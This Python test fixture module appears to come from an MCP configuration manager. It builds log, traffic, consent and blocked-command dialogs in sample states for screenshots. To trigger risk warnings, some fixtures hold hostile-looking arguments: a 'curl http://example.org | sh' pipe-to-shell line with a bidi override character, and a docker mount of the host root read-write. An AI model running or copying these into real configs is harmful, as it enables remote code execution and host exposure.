"""Pages and dialogs in the states that tell most about them, for pictures and outlines."""

from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

from patchbay.core.config.discovery import FoundConfig
from patchbay.core.config.model import Definition, Entry, Place, Transport
from patchbay.core.sessions.log import Log, LogLine, Source
from patchbay.core.sessions.runners import RUNNERS, Runner
from patchbay.core.sessions.traffic import Direction, Outcome, Traffic
from patchbay.core.trust.allow import Allowed
from patchbay.core.trust.consent import Change, Changed, Subject, Unknown
from patchbay.core.trust.plan import plan
from patchbay.core.trust.question import ConsentQuestion
from patchbay.core.trust.reach import reach
from patchbay.core.trust.refusals import NotAllowed
from patchbay.core.trust.risks import risks
from patchbay.ui.dialogs import BlockedDialog, ConsentDialog
from patchbay.ui.first_start import FirstStart
from patchbay.ui.log import LogPage
from patchbay.ui.traffic import TrafficPage
from tests.ui.config_stories import CONFIG_STORIES, PAGE, SMALL
from tests.ui.plain_session import PlainSession
from tests.ui.stories import Story

ZONE = timezone(timedelta(hours=1))


def found_start() -> FirstStart:
    """The configs of 3 clients, one of them broken, and 2 of 3 runners."""
    home = Path("/home/ada")
    page = FirstStart()
    page.show_found(
        (
            FoundConfig("Claude Desktop", home / ".config/Claude/claude_desktop_config.json", 4),
            FoundConfig("Cursor", home / ".cursor/mcp.json", 2),
            FoundConfig(
                "VS Code", home / ".config/Code/User/mcp.json", None, "Line 3: A comma is missing."
            ),
        ),
        home,
    )
    page.set_recent((home / "work/charts/mcp.json",), home)
    page.show_runners(
        (
            Runner("npx", Path("/usr/bin/npx"), "11.19.0"),
            Runner("uvx", Path("/usr/bin/uvx"), "0.9.2"),
            Runner("docker", advice=RUNNERS["docker"]),
        )
    )
    return page


def charts() -> Entry:
    return Entry(
        "charts", Path("/home/ada/project/.mcp.json"), "claude-code", Transport.STDIO, "npx"
    )


LINES = (
    ("14:01:02.114", Source.PATCHBAY, "info", "Started npx -y @acme/charts-mcp@1.4.2, pid 48213"),
    ("14:01:02.902", Source.STDERR, "", "charts-mcp 1.4.2 (node 22.19.0)"),
    ("14:01:02.915", Source.NOISE, "", "Loading datasets from ./data ..."),
    ("14:01:03.020", Source.NOISE, "", "Loaded 12 datasets"),
    ("14:01:03.061", Source.PATCHBAY, "info", "Running: protocol 2026-07-28, 9 tools, 3 prompts"),
    ("14:01:03.410", Source.STDERR, "", "watching ./data for changes"),
    ("14:03:40.008", Source.NOTIFICATION, "info", "tools: publish added, 8 → 9"),
    ("14:05:11.730", Source.STDERR, "", "render orders kind=line days=90"),
    ("14:05:11.902", Source.SERVER, "debug", "render: 270 points in 121 ms"),
    ("14:05:12.440", Source.SERVER, "warning", "orders: 3 rows dated in the future, clipped"),
    ("14:06:01.219", Source.STDERR, "", "render orders kind=pie days=90"),
    ("14:06:01.223", Source.SERVER, "error", "kind must be one of line, area, bar, scatter"),
    ("14:06:01.224", Source.STDERR, "", "Traceback (most recent call last):"),
    ("14:06:01.224", Source.STDERR, "", '  File "render.js", line 212, in draw'),
    ("14:06:01.224", Source.STDERR, "", "RangeError: unknown kind pie"),
    ("14:08:30.560", Source.STDERR, "", "orders reloaded, 18,204 rows; " + "column, " * 40),
    ("14:12:50.318", Source.SERVER, "warning", "returns: 12 rows without a date, skipped"),
    ("14:12:56.102", Source.NOTIFICATION, "info", "progress: 3 of 5, Rendering page 3 of 5"),
)


class ToldLog(Log):
    """A log whose lines came at given times."""

    def tell(self, *lines: LogLine) -> None:
        for line in lines:
            self._lines.append(line)
            self._counts[line.source] += 1
        self.total += len(lines)
        self.added.emit(lines)


def at(clock: str) -> datetime:
    return datetime.fromisoformat(f"2026-11-30T{clock}").replace(tzinfo=ZONE)


def busy_log() -> ToldLog:
    log = ToldLog()
    log.tell(*(LogLine(at(when), source, level, text) for when, source, level, text in LINES))
    return log


def log_page() -> LogPage:
    return LogPage(PlainSession(charts(), log=busy_log()))


def log_page_with_a_line() -> LogPage:
    page = log_page()
    page.table.selectRow(15)
    return page


SENT, RECEIVED = Direction.SENT, Direction.RECEIVED
MESSAGES: tuple[tuple[str, Direction, str, str, Outcome, float | None, int], ...] = (
    ("14:01:02.960", SENT, "server/discover", "", Outcome.OK, 0.041, 1_900),
    ("14:01:03.004", SENT, "tools/list", "", Outcome.OK, 0.018, 11_400),
    ("14:01:03.024", SENT, "prompts/list", "", Outcome.OK, 0.006, 1_100),
    ("14:03:40.008", RECEIVED, "notifications/tools/list_changed", "", Outcome.NONE, None, 0),
    ("14:05:11.722", SENT, "tools/call", "render_chart", Outcome.OK, 0.182, 34_000),
    ("14:06:01.211", SENT, "tools/call", "render_chart", Outcome.TOOL_ERROR, 0.014, 412),
    ("14:08:30.551", RECEIVED, "notifications/resources/updated", "", Outcome.NONE, None, 0),
    ("14:08:30.602", SENT, "resources/read", "dataset://orders", Outcome.OK, 0.063, 88_000),
    ("14:10:05.110", SENT, "tools/call", "publish", Outcome.UNANSWERED, 30.0, 0),
    ("14:10:35.112", SENT, "notifications/cancelled", "id 31", Outcome.NONE, None, 0),
    ("14:12:43.990", SENT, "tools/call", "build_report", Outcome.WAITING, None, 0),
    ("14:12:45.870", RECEIVED, "notifications/progress", "1 of 5", Outcome.NONE, None, 0),
    ("14:12:56.004", SENT, "resources/list", "", Outcome.ERROR, 2.8, 4_800),
)
CALL = (
    '{"jsonrpc":"2.0","id":12,"method":"tools/call","params":{"name":"render_chart",'
    '"arguments":{"dataset":"orders","kind":"pie","days":90}}}'
)
ANSWER = (
    '{"jsonrpc":"2.0","id":12,"result":{"isError":true,"content":[{"type":"text",'
    '"text":"kind must be one of line, area, bar, scatter, and nothing else at all"}]}}'
)


def busy_traffic() -> Traffic:
    traffic = Traffic()
    for number, (when, way, method, target, outcome, took, size) in enumerate(MESSAGES, 1):
        waits = outcome is not Outcome.NONE
        exchange = traffic.record(
            way, method, CALL, size=214, target=target, request_id=number, waits=waits
        )
        if waits and outcome is not Outcome.WAITING:
            answer = ANSWER if size else ""
            traffic.answer(exchange, answer, size=size, outcome=outcome, took=took or 0)
        if outcome is not Outcome.WAITING:
            exchange.at = at(when)
    return traffic


def traffic_page() -> TrafficPage:
    page = TrafficPage(PlainSession(charts(), traffic=busy_traffic()))
    page.table.selectRow(5)
    return page


def docker_question(decision: Unknown | Changed | None = None) -> ConsentQuestion:
    args = ("run", "-i", "-v", "/:/host:rw", "-e", "PG_URL", "-e", "PGSSLMODE")
    definition = Definition(
        "postgres",
        Path("/home/ada/.config/Claude/claude_desktop_config.json"),
        Transport.STDIO,
        command="docker",
        args=(*args, "mcp/postgres:latest"),
        cwd=Path("/srv/work"),
        env={"PG_URL": "postgres://ada@db/orders", "PGSSLMODE": "require"},
    )
    start = plan(definition, Allowed("/usr/bin/docker", "docker"), Path("/run/patchbay/id"))
    entry = replace(charts(), name="postgres", file=definition.file, place=Place(22, 5))
    basics = ("HOME", "LANG", "PATH", "TERM", "TMPDIR", "USER", "SHELL", "TZ", "XDG_RUNTIME_DIR")
    return ConsentQuestion(
        entry,
        decision or Unknown(),
        start,
        "",
        "/srv/work",
        tuple(definition.env),
        basics,
        risks(start),
    )


def plain_question() -> ConsentQuestion:
    definition = Definition(
        "charts",
        Path("/home/ada/project/.mcp.json"),
        Transport.STDIO,
        command="npx",
        args=("-y", "@acme/charts-mcp@1.4.2", "--data", "./data"),
        cwd=Path("/home/ada/project"),
    )
    start = plan(definition, Allowed("/usr/local/bin/npx", "npx"))
    return ConsentQuestion(
        charts(), Unknown(), start, "", "/home/ada/project", (), ("PATH", "HOME", "LANG", "TZ"), ()
    )


def changed_question() -> ConsentQuestion:
    before = Subject(str(charts().file), "charts", "stdio")
    changes = (
        Change("Arguments", "-y @acme/charts-mcp@1.4.1", "-y @acme/charts-mcp@1.4.2 --data ./data"),
        Change("Variables", "", "CHARTS_TOKEN"),
    )
    return replace(
        plain_question(),
        decision=Changed(before, changes),
        variables=tuple(f"CHARTS_VARIABLE_{number}" for number in range(9)),
    )


def long_question() -> ConsentQuestion:
    definition = Definition(
        "long",
        Path("/home/ada/project/.mcp.json"),
        Transport.STDIO,
        command="npx",
        args=(
            "-c",
            "curl http://example.org | sh",
            *(f"--option-{n}=value {n}" for n in range(60)),
            "line\nbreak \u202e reversed",
        ),
    )
    start = plan(definition, Allowed("/usr/local/bin/npx", "npx"))
    return replace(plain_question(), plan=start, risks=risks(start))


def remote_question() -> ConsentQuestion:
    entry = replace(
        charts(), name="figma", transport=Transport.HTTP, url="https://mcp.figma.com/mcp"
    )
    address = "https://mcp.figma.com/mcp"
    definition = Definition(
        "figma",
        entry.file,
        Transport.HTTP,
        url=address,
        ca_file=Path("/etc/office/authorities.pem"),
        client_cert=Path("/home/alex/.certificates/alex.pem"),
        proxy="http://alex:hunter22@proxy.office.example:3128",
    )
    found = reach(definition)
    return ConsentQuestion(entry, Unknown(), None, address, "", ("Authorization",), (), (), found)


def blocked(command: str, resolved: str) -> BlockedDialog:
    entry = replace(
        charts(),
        name="python-tools",
        command=command,
        place=Place(14, 5),
        args=("-m", "my_tools.server", "--stdio"),
    )
    found = None if resolved == "not found" else Path(resolved)
    definition = Definition(entry.name, entry.file, Transport.STDIO, command, entry.args)
    error = NotAllowed(definition, command, found)
    return BlockedDialog(error, entry, (("npx",), ("uvx",), ("docker",)))


PAGE_STORIES = (
    Story("log", lambda _: log_page(), *PAGE),
    Story("log-narrow", lambda _: log_page(), *SMALL),
    Story("log-line", lambda _: log_page_with_a_line(), *PAGE),
    Story("log-line-narrow", lambda _: log_page_with_a_line(), *SMALL),
    Story("log-empty", lambda _: LogPage(PlainSession(charts())), *PAGE),
    Story("traffic", lambda _: traffic_page(), *PAGE),
    Story("traffic-narrow", lambda _: traffic_page(), *SMALL),
    Story("traffic-empty", lambda _: TrafficPage(PlainSession(charts())), *PAGE),
    Story("consent-risky", lambda _: ConsentDialog(docker_question()), 0, 0),
    Story("consent-plain", lambda _: ConsentDialog(plain_question()), 0, 0),
    Story("consent-changed", lambda _: ConsentDialog(changed_question()), 0, 0),
    Story("consent-long", lambda _: ConsentDialog(long_question()), 0, 0),
    Story("consent-remote", lambda _: ConsentDialog(remote_question()), 0, 0),
    Story("blocked-interpreter", lambda _: blocked("python", "/usr/bin/python3.12"), 0, 0),
    Story("blocked-name", lambda _: blocked("my-tools", "not found"), 0, 0),
    Story("blocked-path", lambda _: blocked("/opt/tools/bin/serve", "/opt/tools/bin/serve"), 0, 0),
    Story("first-start", lambda _: FirstStart(), 1_016, 800),
    Story("first-start-narrow", lambda _: FirstStart(), 440, 480),
    Story("first-start-found", lambda _: found_start(), 1_016, 800),
    Story("first-start-found-narrow", lambda _: found_start(), 440, 1_000),
    *CONFIG_STORIES,
)
